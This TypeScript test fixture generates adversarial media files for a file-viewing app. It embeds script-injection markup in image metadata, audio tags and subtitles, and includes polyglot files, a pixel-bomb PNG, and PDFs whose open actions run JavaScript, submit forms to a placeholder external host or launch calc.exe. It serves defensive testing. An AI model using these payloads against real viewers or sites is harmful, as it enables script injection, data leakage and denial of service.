import { crc32, deflateSync } from 'node:zlib';
import { createZip } from '../../../apps/box/src/storage/archives/malicious-archives.ts';
import { createVideo } from '../../../apps/box/src/bin/demo/webm-video.ts';
import { createPdf } from '../../../apps/box/src/bin/demo/pdf-document.ts';
import { createPhoto } from '../../../apps/box/src/bin/demo/generated-photos.ts';
import { SeededRandom } from '../../../apps/box/src/bin/demo/seeded-random.ts';
import { createWav } from '../../../apps/box/src/bin/demo/wav-audio.ts';
import type { AdversarialFile, Payload } from './adversarial-files.ts';

const u16 = (value: number): Buffer => {
  const bytes = Buffer.alloc(2);
  bytes.writeUInt16BE(value);
  return bytes;
};
const u32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value >>> 0);
  return bytes;
};

/** A JPEG segment as a camera writes it: text fields of the first directory, and a second directory at `next`. */
const exif = (fields: readonly (readonly [tag: number, text: string])[], next?: number): Buffer => {
  const texts: Buffer[] = [];
  let offset = 8 + 2 + (fields.length + 1) * 12 + 4;
  const entries = fields.map(([tag, text]) => {
    const bytes = Buffer.from(`${text}\0\0\0\0`);
    texts.push(bytes);
    offset += bytes.length;
    return Buffer.concat([u16(tag), u16(2), u32(bytes.length), u32(offset - bytes.length)]);
  });
  // A pointer to another directory: an adversarial one points to itself or out of the file.
  const pointer = Buffer.concat([u16(0x8769), u16(4), u32(1), u32(next ?? 0xfffffff0)]);
  const tiff = Buffer.concat([
    Buffer.from('MM\0*'),
    u32(8),
    u16(fields.length + 1),
    ...entries,
    pointer,
    u32(8),
    ...texts,
  ]);
  return Buffer.concat([u16(0xffe1), u16(tiff.length + 8), Buffer.from('Exif\0\0'), tiff]);
};

const withSegments = (jpeg: Buffer, ...segments: readonly Buffer[]): Buffer => {
  // The photo's own metadata segment would be found first.
  const own = jpeg.readUInt16BE(2) === 0xffe1 ? 4 + jpeg.readUInt16BE(4) : 2;
  return Buffer.concat([jpeg.subarray(0, 2), ...segments, jpeg.subarray(own)]);
};
const comment = (text: string): Buffer => Buffer.concat([u16(0xfffe), u16(text.length + 2), Buffer.from(text)]);

const chunk = (type: string, data: Buffer): Buffer => {
  const body = Buffer.concat([Buffer.from(type), data]);
  return Buffer.concat([u32(data.length), body, u32(crc32(body))]);
};
/** A grey PNG: its header states the size, its data contains `rows` rows. */
const png = (width: number, height: number, rows: number, ...more: readonly Buffer[]): Buffer =>
  Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', Buffer.concat([u32(width), u32(height), Buffer.from([8, 0, 0, 0, 0])])),
    ...more,
    chunk('IDAT', deflateSync(Buffer.alloc(rows * (width + 1)))),
    chunk('IEND', Buffer.alloc(0)),
  ]);

export const adversarialPhotos = async ({ js, far }: Payload): Promise<readonly AdversarialFile[]> => {
  const base = await createPhoto(new SeededRandom(1), new Date(0));
  const markup = `<img src=x onerror=${js}><script>${js}</script>`;
  const page = `<html><body onload="${js}"><script>${js}</script><img src="${far}/photo"></body></html>`;
  return [
    {
      name: 'camera.jpg',
      what: 'markup in the fields of the camera',
      bytes: withSegments(
        base,
        exif([
          [0x010e, markup],
          [0x010f, markup],
          [0x0110, `"><svg onload=${js}>`],
          [0x0132, `2024:01:01 ${markup}`],
          [0x013b, `${far}/artist`],
        ]),
      ),
      shows: { words: markup },
    },
    {
      name: 'loop.jpg',
      what: 'facts that lead back to themselves',
      bytes: withSegments(base, exif([[0x010f, 'Camera']], 8)),
      shows: { words: 'Camera' },
    },
    {
      name: 'comment.jpg',
      what: 'a web page in a comment and behind the picture',
      bytes: Buffer.concat([withSegments(base, comment(page)), Buffer.from(page)]),
      shows: { words: 'comment.jpg' },
    },
    {
      name: 'package.jpg',
      what: 'a photo that is a package of web pages as well',
      bytes: Buffer.concat([base, createZip([{ name: 'index.html', content: Buffer.from(page) }])]),
      shows: { words: 'package.jpg' },
    },
    {
      name: 'program.gif',
      what: 'a picture that is a program as well',
      bytes: Buffer.concat([
        Buffer.from(`GIF89a/*\0\0\0\0\0*/=1;${js};/*`),
        Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64'),
      ]),
      shows: 'either',
    },
    { name: 'page.jpg', what: 'a web page named photo', bytes: page, shows: 'refusal' },
    {
      name: 'drawing.svg',
      what: 'a drawing with a script',
      bytes: `<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"><script>${js}</script></svg>`,
      shows: 'either',
    },
    {
      name: 'huge.png',
      what: 'four billion pixels in a kilobyte',
      bytes: png(65_535, 65_535, 2),
      shows: 'either',
    },
    {
      name: 'texts.png',
      what: 'markup in the texts of a picture',
      bytes: png(
        ...([8, 8, 8] as const),
        chunk('tEXt', Buffer.from(`Comment\0${page}`)),
        chunk('iTXt', Buffer.concat([Buffer.from('XML:com.adobe.xmp\0\0\0\0\0'), Buffer.from(page)])),
      ),
      shows: { words: 'texts.png' },
    },
  ];
};

/** An ID3v2.3 tag with text frames, and a web page as the cover. */
const id3 = (frames: readonly (readonly [id: string, text: string])[], cover: string): Buffer => {
  const frame = (id: string, body: Buffer): Buffer => Buffer.concat([Buffer.from(id), u32(body.length), u16(0), body]);
  const body = Buffer.concat([
    ...frames.map(([id, text]) => frame(id, Buffer.from(`\0${text}`))),
    frame('APIC', Buffer.from(`\0text/html\0\u0003\0${cover}`)),
  ]);
  const size = Buffer.from([21, 14, 7, 0].map((shift) => (body.length >> shift) & 0x7f));
  return Buffer.concat([Buffer.from('ID3\u0003\0\0'), size, body]);
};

export const adversarialMedia = async ({ js, far }: Payload): Promise<readonly AdversarialFile[]> => {
  const markup = `<img src=x onerror=${js}><script>${js}</script>`;
  const page = `<html><body onload="${js}"><script>${js}</script></body></html>`;
  const tag = id3(
    [
      ['TIT2', markup],
      ['TPE1', `"><svg onload=${js}>`],
      ['WXXX', `\0javascript:${js}`],
      ['WOAF', `${far}/song`],
    ],
    page,
  );
  const moving = await createVideo(1, 2);
  const cues = (times: string): string =>
    `1\n${times}\n<script>${js}</script><img src="${far}/cue" onerror="${js}"><b onclick="${js}">seen</b>\n\n2\n${times}\n<c.x onload=${js}><a href="javascript:${js}">link</a>&lt;script&gt;\n`;
  return [
    {
      name: 'tags.mp3',
      what: 'markup in the tags of a song',
      bytes: Buffer.concat([tag, Buffer.alloc(2000)]),
      shows: { words: 'tags' },
    },
    { name: 'page.mp3', what: 'a web page named song', bytes: page, shows: { words: 'page' } },
    {
      name: 'info.wav',
      what: 'markup in the facts of a sound',
      bytes: Buffer.concat([createWav(new SeededRandom(1), 1), Buffer.from(`LIST\u0040\0\0\0INFOINAM${markup}`)]),
      shows: { words: 'info' },
    },
    {
      name: 'film.webm',
      what: 'markup, styles and addresses in subtitles',
      bytes: moving,
      companions: {
        'film.vtt': `WEBVTT\n\nSTYLE\n::cue { background: url(${far}/cue-style); }\n\nREGION\nid:${js}\n\n${cues('00:00.000 --> 00:02.000 line:0')}`,
        [`film.<img src=x onerror=${js}>.srt`]: cues('00:00:00,000 --> 00:00:02,000'),
      },
      shows: { words: 'film.webm' },
    },
    { name: 'page.mp4', what: 'a web page named film', bytes: page, shows: 'refusal' },
  ];
};

/** A document that runs an action when it is opened. */
const pdfWithAction = (action: string, more = ''): Buffer => {
  const plain = createPdf('Readable paper', ['One line']).toString('latin1');
  return Buffer.from(
    plain.replace('/Type /Catalog', `/Type /Catalog /OpenAction ${action} /AA << /WC ${action} >> ${more}`),
    'latin1',
  );
};

export const adversarialPdfs = ({ js, far }: Payload): readonly AdversarialFile[] => {
  const script = `<< /S /JavaScript /JS (app.alert\\(1\\);app.launchURL\\("${far}/js"\\);${js.replaceAll(/[()]/g, '\\$&')}) >>`;
  const list: readonly (readonly [what: string, bytes: string | Uint8Array])[] = [
    ['a script when it opens', pdfWithAction(script)],
    ['an address when it opens', pdfWithAction(`<< /S /URI /URI (${far}/uri) >>`)],
    [
      'a form that is sent when it opens',
      pdfWithAction(`<< /S /SubmitForm /F << /FS /URL /F (${far}/form) >> /Flags 4 >>`),
    ],
    ['a program when it opens', pdfWithAction('<< /S /Launch /F (calc.exe) >>')],
    ['another document when it opens', pdfWithAction(`<< /S /GoToR /F (${far}/r.pdf) /D [0 /Fit] >>`)],
    [
      'names and forms with scripts',
      pdfWithAction(script, `/Names << /JavaScript << /Names [(a) ${script}] >> >> /AcroForm << /XFA (${far}/xfa) >>`),
    ],
    ['a web page named pdf', `<html><body onload="${js}"><script>${js}</script><img src="${far}/pdf"></body></html>`],
    [
      'a web page before the document',
      Buffer.concat([Buffer.from(`<html><script>${js}</script>`), createPdf('Readable paper', [])]),
    ],
  ];
  return list.map(([what, bytes], at) => ({ name: `paper ${at + 1}.pdf`, what, bytes, shows: 'either' }));
};
